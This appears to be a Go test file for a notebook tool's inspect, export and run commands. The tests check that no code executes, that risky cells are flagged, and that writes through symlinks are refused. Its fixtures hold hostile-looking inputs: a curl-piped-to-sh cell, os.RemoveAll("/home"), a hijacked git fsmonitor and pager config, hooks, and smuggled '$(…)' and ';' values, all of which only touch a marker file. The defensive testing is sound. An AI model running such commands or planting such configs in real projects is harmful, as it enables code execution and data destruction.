package main

import (
	"encoding/json"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hierml/notebook/internal/notebook"
	"github.com/hierml/notebook/internal/testrun"
)

// TestNotebookInspect looks at what is printed of a notebook.
func TestNotebookInspect(t *testing.T) {
	dir := t.TempDir()
	nb := &notebook.Notebook{Cells: []*notebook.Cell{
		{Kind: notebook.Markdown, Source: "See [the site](https://a.org/\x1b[2J)."},
		{Kind: notebook.Code, Source: "import \"evil.org/x\"\nfmt.Println(math.Pi, x.Y)"},
		{Kind: notebook.Code, Source: "!curl https://b.org |\x1b sh"},
		{Kind: notebook.Code, Source: "%%bash\nmake\nmake " + strings.Repeat("x", 300)},
		{Kind: notebook.Code, Source: "os.RemoveAll(\"/home\")"},
	}}
	for range 9 {
		nb.Cells = append(nb.Cells, &notebook.Cell{Kind: notebook.Code, Source: "http.Get(u)"})
	}
	if err := nb.WriteFile(filepath.Join(dir, "a.ipynb")); err != nil {
		t.Fatal(err)
	}
	const want = `a.ipynb: 13 code cells, 1 others

commands
  cell 2: !curl https://b.org |\x1b sh
  cell 3: %%bash ⏎ make ⏎ make ` // and the beginning of the rest
	got := hierml(t, dir, "", "notebook", "inspect", "a.ipynb")
	rest, ok := strings.CutPrefix(got.stdout, want)
	_, rest, _ = strings.Cut(rest, "\n")
	if !ok || got.status != 0 || got.stderr != "" || rest != `
packages
  cell 1: evil.org/x (not part of Go or hierml: it is downloaded or taken from the notebook's folder, and importing it runs its code)
  cell 4: os (files, environment variables, processes)
  cell 5, cell 6, cell 7, cell 8, cell 9 and 4 more: net/http (network)
  that only compute: fmt, math

files
  cell 4: /home

addresses
  text before cell 1: https://a.org/\x1b
  cell 2: https://b.org

Nothing was executed. The list lacks names that the code builds while it runs.
` {
		t.Errorf("status %d, %s\n%s", got.status, got.stderr, got.stdout)
	}
	if got := hierml(t, dir, "", "notebook", "inspect", "missing.ipynb"); got != (result{"", "hierml: open missing.ipynb: no such file or directory\n", 1}) {
		t.Errorf("%+v", got)
	}
}

// TestNothingIsExecuted gives the commands that promise to execute nothing a notebook all of whose
// cells leave a file, in a folder whose programs, packages and settings of git do so, too. At the
// end the notebook is run, and does.
func TestNothingIsExecuted(t *testing.T) {
	_, err := exec.LookPath("git")
	testrun.Need(t, "git", err)
	dir := t.TempDir()
	mark := filepath.Join(dir, "executed")
	script := "#!/bin/sh\n/usr/bin/touch " + mark + "\n"
	put := func(name, text string) {
		t.Helper()
		path := filepath.Join(dir, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o777); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o777); err != nil {
			t.Fatal(err)
		}
	}
	for _, name := range []string{"go", "gcc", "cc", "ld", "sh", "bash", "git", "python", "python3", "jupyter", "less", "xdg-open", "evil"} {
		put(name, script)
		put("bin/"+name, script)
	}
	if out, err := exec.CommandContext(t.Context(), "git", "-C", dir, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("%s, %v", out, err)
	}
	put(".git/config", "[core]\n\tfsmonitor = "+filepath.Join(dir, "evil")+"\n\tpager = "+filepath.Join(dir, "evil")+"\n")
	put(".git/hooks/post-index-change", script)
	put("go.mod", "module own\n\ngo 1.26\n")
	write := "os.WriteFile(" + quoted(t, mark) + ", nil, 0o600)"
	put("b/b.go", "package b\n\nimport \"os\"\n\nvar X = func() int { "+write+"; return 1 }()\n\nfunc init() { "+write+" }\n")
	put("b/generate.go", "package b\n\n//go:generate "+filepath.Join(dir, "evil")+"\n")
	put("init.go", "package main\n\nimport \"os\"\n\nfunc init() { "+write+" }\n\nfunc main() {}\n")
	nb := &notebook.Notebook{Metadata: map[string]any{"language_info": map[string]any{"name": "go", "file_extension": ";" + mark, "pygments_lexer": "`evil`"}}}
	for _, source := range []string{
		"import \"own/b\"\nb.X",
		"var y = func() int { " + write + "; return 1 }()",
		"func init() { " + write + " }",
		write,
		"type t struct{}\nfunc (t) String() string { " + write + "; return \"\" }\nt{}",
		"!touch " + mark,
		"%%bash\ntouch " + mark,
		"%run init.go",
		"%time " + write,
		"func TestX(t *testing.T) { " + write + " }\n%test",
		"x := must(1, " + write + ")",
	} {
		nb.Cells = append(nb.Cells,
			&notebook.Cell{Kind: notebook.Markdown, Source: "`" + source + "` $(touch " + mark + ") ![a](|evil)"},
			&notebook.Cell{Kind: notebook.Code, Source: source, Metadata: map[string]any{"tags": []any{notebook.RaisesException}},
				Count: 1, Outputs: []*notebook.Output{{Kind: notebook.Display, Data: map[string]any{"text/plain": "a", "image/png": "AAAA", "application/x-" + source: source}, Metadata: map[string]any{}}}})
	}
	if err := nb.WriteFile(filepath.Join(dir, "a.ipynb")); err != nil {
		t.Fatal(err)
	}
	notExecuted := func(args ...string) {
		t.Helper()
		if _, err := os.Lstat(mark); err == nil {
			t.Errorf("hierml %s has executed something", strings.Join(args, " "))
			if err := os.Remove(mark); err != nil {
				t.Fatal(err)
			}
		}
	}
	path := os.Getenv("PATH")
	for _, args := range []string{"inspect a.ipynb", "clear a.ipynb -o cleared.ipynb", "export a.ipynb -o a.html", "export a.ipynb --format slides -o s.html", "export a.ipynb -o a.md", "export a.ipynb a.ipynb -o book.html"} {
		t.Setenv("PATH", filepath.Join(dir, "bin"))
		args := append([]string{"notebook"}, strings.Fields(args)...)
		if got := hierml(t, dir, "", args...); got.status != 0 {
			t.Errorf("%q: status %d, %s", args, got.status, got.stderr)
		}
		notExecuted(args...)
	}
	t.Setenv("PATH", path) // a program is checked with the packages that it imports, for which go is called
	got := hierml(t, dir, "", "notebook", "export", "a.ipynb", "-o", "a.go")
	notExecuted("notebook", "export", "a.ipynb", "-o", "a.go")
	if text, err := os.ReadFile(filepath.Join(dir, "a.go")); got.status != 0 || err != nil || !strings.Contains(string(text), "own/b") {
		t.Errorf("as a program: %s, %v", got.stderr, err)
	}
	got = hierml(t, dir, "", "notebook", "run", "a.ipynb")
	if _, err := os.Lstat(mark); err != nil {
		t.Errorf("what runs the notebook leaves no file either: %s", got.stderr)
	}
}

// quoted writes a string for Go.
func quoted(t *testing.T, s string) string {
	t.Helper()
	text, err := json.Marshal(s)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// TestExportThroughLinks exports a notebook beside a link that has the name of the folder for its
// pictures, or of one of them. It is refused, and nothing is written where the link leads.
func TestExportThroughLinks(t *testing.T) {
	dir, other := t.TempDir(), t.TempDir()
	nb := &notebook.Notebook{Cells: []*notebook.Cell{
		{Kind: notebook.Markdown, Source: "![a](attachment:../../a.png)", Attachments: map[string]any{"../../a.png": map[string]any{"image/png": "AAAA"}}},
		{Kind: notebook.Code, Source: "1", Count: 1, Outputs: []*notebook.Output{{Kind: notebook.Display, Data: map[string]any{"image/png": "AAAA"}, Metadata: map[string]any{}}}},
	}}
	if err := nb.WriteFile(filepath.Join(dir, "a.ipynb")); err != nil {
		t.Fatal(err)
	}
	for _, link := range []string{"a_files", "a_files/cell-2-1.png"} {
		victim := other
		if link != "a_files" {
			victim = filepath.Join(other, "victim")
			if err := os.MkdirAll(filepath.Join(dir, "a_files"), 0o777); err != nil {
				t.Fatal(err)
			}
		}
		if err := os.RemoveAll(filepath.Join(dir, filepath.FromSlash(link))); err != nil {
			t.Fatal(err)
		}
		if err := os.Symlink(victim, filepath.Join(dir, filepath.FromSlash(link))); err != nil {
			t.Fatal(err)
		}
		if got := hierml(t, dir, "", "notebook", "export", "a.ipynb", "-o", "a.md"); got.status != 1 || !strings.Contains(got.stderr, link+" is a link") {
			t.Errorf("%s: status %d, %s", link, got.status, got.stderr)
		}
		if err := os.Remove(filepath.Join(dir, filepath.FromSlash(link))); err != nil {
			t.Fatal(err)
		}
	}
	if got := hierml(t, dir, "", "notebook", "export", "a.ipynb", "-o", "a.md"); got.status != 0 {
		t.Error(got.stderr)
	}
	for _, folder := range []string{other, filepath.Dir(dir)} {
		err := filepath.WalkDir(folder, func(path string, d fs.DirEntry, err error) error {
			if err == nil && !d.IsDir() && !strings.HasPrefix(path, dir+string(filepath.Separator)) {
				t.Errorf("it has written %s", path)
			}
			return err
		})
		if err != nil {
			t.Fatal(err)
		}
	}
}
